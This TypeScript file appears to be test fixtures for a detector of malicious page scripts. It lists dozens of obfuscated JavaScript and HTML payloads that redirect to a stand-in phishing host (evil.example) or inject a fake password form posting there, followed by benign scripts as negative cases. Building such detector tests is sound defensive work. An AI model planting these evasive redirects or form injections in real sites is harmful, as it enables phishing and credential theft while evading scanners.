/** Address to which the scripts of the tables lead, or from which their forms come. */
export const EXIT = 'https://evil.example/login';
export const MARKUP = '<form action="https://evil.example/p.php" method=post><input type=password></form>';

const reversed = (text: string) => [...text].reverse().join('');
const codesOf = (text: string) => [...text].map((character) => character.charCodeAt(0));
const hexEscaped = (text: string) =>
  codesOf(text)
    .map((code) => `\\x${code.toString(16).padStart(2, '0')}`)
    .join('');
const hex = (text: string) =>
  codesOf(text)
    .map((code) => code.toString(16).padStart(2, '0'))
    .join('');
const quoted = JSON.stringify(MARKUP).replaceAll('</', '<\\/');
const inside = (code: string) => JSON.stringify(code).replaceAll('</', '<\\/');

/** Scripts that go to {@link EXIT} by themselves. */
export const MOVING_SCRIPTS: readonly string[] = [
  // The address, in all spellings.
  `location="${EXIT}"`,
  `document.location.href='${EXIT}'`,
  `window["loc"+"ation"]["hr"+"ef"]="${EXIT}"`,
  `top["location"]["replace"]("${EXIT}")`,
  `loc\\u0061tion="${EXIT}"`,
  `globalThis.location="${EXIT}"`,
  `const l=window.location;l.assign("${EXIT}")`,
  `const {location:l}=window;l.href="${EXIT}"`,
  `var r=location.replace.bind(location);r("${EXIT}")`,
  `location.replace.call(location,"${EXIT}")`,
  `Reflect.set(location,'href',"${EXIT}")`,
  `Object.assign(location,{href:"${EXIT}"})`,
  `with(location){href="${EXIT}"}`,
  `(function(w,k){w[k]="${EXIT}"})(window,"location")`,
  `open("${EXIT}","_self")`,
  `navigation.navigate("${EXIT}")`,
  // Constants in pieces.
  `location=["https://","evil",".example","/login"].join("")`,
  `var u="";u+="https://";u+="evil.example";u+="/login";location=u`,
  `const [p,q]=["https://evil.example","/login"];location=p+q`,
  `const h="evil.example";location=\`https://\${h}/login\``,
  `location=String.raw\`${EXIT}\``,
  `location=new URL("/login","https://evil.example")`,
  `location.href=("${EXIT}?x=").substr(0,${EXIT.length})`,
  `location="${EXIT.toUpperCase()}".toLowerCase()`,
  `location="  ${EXIT} "`,
  `location=JSON.parse('{"u":"${EXIT}"}').u`,
  `window.app={};app.u="${EXIT}";location=app.u`,
  `self.location=navigator.webdriver?"/x":"${EXIT}"`,
  // Decoders.
  `location.replace(atob("${btoa(EXIT)}"))`,
  `location=decodeURIComponent("${encodeURIComponent(EXIT)}")`,
  `location=unescape("${hex(EXIT).replace(/../g, '%$&')}")`,
  `location="${hexEscaped(EXIT)}"`,
  `location.href=String.fromCharCode(${codesOf(EXIT)})`,
  `location.href=String.fromCharCode.apply(null,[${codesOf(EXIT)}])`,
  `location.href=String.fromCharCode(...[${codesOf(EXIT)}])`,
  `location=[${codesOf(EXIT).map((code) => code ^ 7)}].map(c=>String.fromCharCode(c^7)).join("")`,
  `location=[${codesOf(EXIT).map((code) => code + 3)}].map(function(c){return String.fromCharCode(c-3)}).join("")`,
  `location="${reversed(EXIT)}".split("").reverse().join("")`,
  `const d=s=>s.split("").reverse().join("");location=d("${reversed(EXIT)}")`,
  `location="${EXIT.replace('evil', 'eXvXiXl')}".replace(/X/g,"")`,
  `location="${EXIT.replace('evil', 'eXvXiXl')}".replaceAll("X","")`,
  `location=decodeURIComponent("${hex(EXIT)}".replace(/(..)/g,"%$1"))`,
  `location=new TextDecoder().decode(Uint8Array.from(atob("${btoa(EXIT)}"),c=>c.charCodeAt(0)))`,
  // Code in texts.
  `eval("loca"+"tion='${EXIT}'")`,
  `new Function("location='${EXIT}'")()`,
  `setTimeout("location=\\"${EXIT}\\"",10)`,
  `import("data:text/javascript,location.href='${EXIT}'")`,
  `location="javascript:location='${EXIT}'"`,
  // Functions that run by themselves.
  `setTimeout(()=>{location.href="${EXIT}"},10)`,
  `let go=()=>{window.location.href="${EXIT}"};setTimeout(go,100)`,
  `function go(){location.href=u} var u="${EXIT}"; go()`,
  `window.onload=function(){top.location="${EXIT}"}`,
  `addEventListener("load",function(){location="${EXIT}"})`,
  `document.addEventListener("DOMContentLoaded",()=>location.assign("${EXIT}"))`,
  `$(function(){window.location.replace("${EXIT}")})`,
  `$(document).ready(function(){location="${EXIT}"})`,
  `fetch("/x").then(r=>r.json()).then(j=>{location="${EXIT}"})`,
  `(async()=>{await 1;location.href="${EXIT}"})()`,
  `const app={init(){location.href="${EXIT}"}};app.init()`,
  `class A{go(){location.href="${EXIT}"}} new A().go()`,
  `try{throw 1}catch(e){location="${EXIT}"}`,
  `switch(1){case 1:location="${EXIT}"}`,
  // What the reader of tokens may stumble over.
  `<!-- x\nlocation="${EXIT}"\n-->`,
  `/* c */ // y\rlocation="${EXIT}"`,
  `var re=/[/"]/;location="${EXIT}"`,
  `var f=x=>x\nlocation="${EXIT}"`,
  // Elements.
  `var a=document.createElement('a');a.href="${EXIT}";document.body.appendChild(a);a.click()`,
  `const f=document.createElement("form");f.action="${EXIT}";f.method="POST";document.body.appendChild(f);f.submit()`,
  `const m=document.createElement('meta');m.httpEquiv='refresh';m.content='0;url=${EXIT}';document.head.appendChild(m)`,
];

/** Pages that lead to {@link EXIT} by scripts in several places. */
export const MOVING_PAGES: readonly string[] = [
  `<body onload="location='${EXIT}'">`,
  `<img src=x onerror="location='${EXIT}'">`,
  `<svg onload="location.href='${EXIT}'">`,
  `<style onload="location='${EXIT}'"></style>`,
  `<details open ontoggle="location='${EXIT}'">`,
  `<input type=hidden autofocus onfocus="location='${EXIT}'">`,
  `<body onload="go()"><script>function go(){location="${EXIT}"}</script>`,
  `<script>var u="${EXIT}"</script><script>location=u</script>`,
  `<a id=l href="${EXIT}">x</a><a href=/a>b</a><script>document.getElementById('l').click()</script>`,
  `<div id=d data-u="${EXIT}"></div><script>location=document.getElementById('d').dataset.u</script>`,
  `<script type=text/plain id=t>${EXIT}</script><script>location=t.textContent</script>`,
  `<script src="data:text/javascript,location='${EXIT}'"></script>`,
  `<iframe src="javascript:parent.location='${EXIT}'"></iframe>`,
];

/** Scripts that put {@link MARKUP} into the page. */
export const WRITING_SCRIPTS: readonly string[] = [
  `document.write(${quoted})`,
  `document["wri"+"teln"](${quoted})`,
  `var w=document.write.bind(document);w(${quoted})`,
  `with(document){write(${quoted})}`,
  `document.write("<form action='https://evil.example/p.php'>");document.write("<input type=password>")`,
  `x.innerHTML=${quoted}`,
  `x["inner"+"HTML"]+=${quoted}`,
  `x.innerHTML=\`${MARKUP.replaceAll('</', '<\\/')}\``,
  `x.innerHTML='<h1>Hi '+name+'<\\/h1>'+${quoted}`,
  `document.body.outerHTML=${quoted}`,
  `x.insertAdjacentHTML("beforeend",${quoted})`,
  `x.setHTMLUnsafe(${quoted})`,
  `new DOMParser().parseFromString(${quoted},"text/html")`,
  `document.createRange().createContextualFragment(${quoted})`,
  `f.srcdoc=${quoted}`,
  `f.setAttribute("srcdoc",${quoted})`,
  `x.attachShadow({mode:"closed"}).innerHTML=${quoted}`,
  `$("#a").html(${quoted})`,
  `$("body").append(${quoted})`,
  `$(${quoted}).appendTo("body")`,
  `eval(${inside(`x.innerHTML=${quoted}`)})`,
  `setTimeout(${inside(`document.body.innerHTML=${quoted}`)})`,
  `location=URL.createObjectURL(new Blob([${quoted}],{type:"text/html"}))`,
  `window.open("data:text/html,${encodeURIComponent(MARKUP)}")`,
  `const i=document.createElement("iframe");i.srcdoc=${quoted};document.body.append(i)`,
  `const f=document.createElement("form");f.action="https://evil.example/p.php";const p=document.createElement("input");p.type="password";f.appendChild(p);document.body.appendChild(f)`,
  `var a="<form action='https://evil.example/p.php'>";a=a+"<input type=password>";x.innerHTML=a`,
  `window.onload=()=>{x.innerHTML=${quoted}}`,
  `next.addEventListener("click",()=>{x.innerHTML=${quoted}})`,
  `x.innerHTML="${hexEscaped(MARKUP)}"`,
  `x.innerHTML=${inside(reversed(MARKUP))}.split("").reverse().join("")`,
  `x.innerHTML=atob("${btoa(MARKUP)}")`,
  `x.innerHTML=decodeURIComponent(escape(atob("${btoa(MARKUP)}")))`,
  `var t="";[${codesOf(MARKUP)}].forEach(c=>t+=String.fromCharCode(c));x.innerHTML=t`,
  `x.innerHTML="${hex(MARKUP).replace(/../g, '%$&')}".replace(/%(..)/g,(m,h)=>String.fromCharCode(parseInt(h,16)))`,
];

/** Honest scripts, which write nothing, and lead nowhere by themselves. */
export const HONEST_SCRIPTS: readonly string[] = [
  `(function(i,s,o,g,r,a,m){i['GoogleAnalyticsObject']=r;i[r]=i[r]||function(){(i[r].q=i[r].q||[]).push(arguments)},i[r].l=1*new Date();a=s.createElement(o),m=s.getElementsByTagName(o)[0];a.async=1;a.src=g;m.parentNode.insertBefore(a,m)})(window,document,'script','//stats.example/a.js','ga');ga('create','UA-1','auto')`,
  `var _gaq=_gaq||[];(function(){var ga=document.createElement('script');ga.src=('https:'==document.location.protocol?'https://ssl':'http://www')+'.stats.example/ga.js';var s=document.getElementsByTagName('script')[0];s.parentNode.insertBefore(ga,s)})()`,
  `document.write(unescape("%3Cscript src='//s.example/ga.js'%3E%3C/script%3E"))`,
  `(()=>{var e={},t={};function n(r){var o=t[r];if(void 0!==o)return o.exports;var i=t[r]={exports:{}};return e[r](i,i.exports,n),i.exports}n.p="/static/",n.o=(e,t)=>Object.prototype.hasOwnProperty.call(e,t)})()`,
  `(function($){$.fn.tabs=function(o){return this.each(function(){var t=$(this);t.find("a").click(function(){location.href=$(this).attr("href")})})}})(jQuery)`,
  `function logout(){window.location.href="https://other.example/logout"} function help(){window.open("https://other.example/help")}`,
  `document.getElementById("buy").addEventListener("click",()=>{location.href="https://shop.example/basket"})`,
  `if(window.top!==window.self)top.location=self.location`,
  `if(location.protocol!=="https:")location.href=location.href.replace("http:","https:")`,
  `location.hash="#top"; history.pushState({},"","/next"); location.reload()`,
  `if(location=="https://other.example/")warn()`,
  `var config={login:"https://id.example/login",next:"/home"}; console.log(config.login)`,
  `const template=Handlebars.compile(document.getElementById("entry").innerHTML)`,
  `var x=a/b/c; var s="location=\\"https://other.example/\\""; log(s)`,
  `const router={push(location){this.location=location;return this.location}}`,
  `const data=new FormData();data.append("next","https://other.example/");fetch("/api",{method:"POST",body:data})`,
  `window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)}gtag('js',new Date());gtag('config','G-1')`,
  `$("#login").submit(function(e){e.preventDefault();$.post("/login",$(this).serialize(),function(r){location.href="https://other.example/"})})`,
];
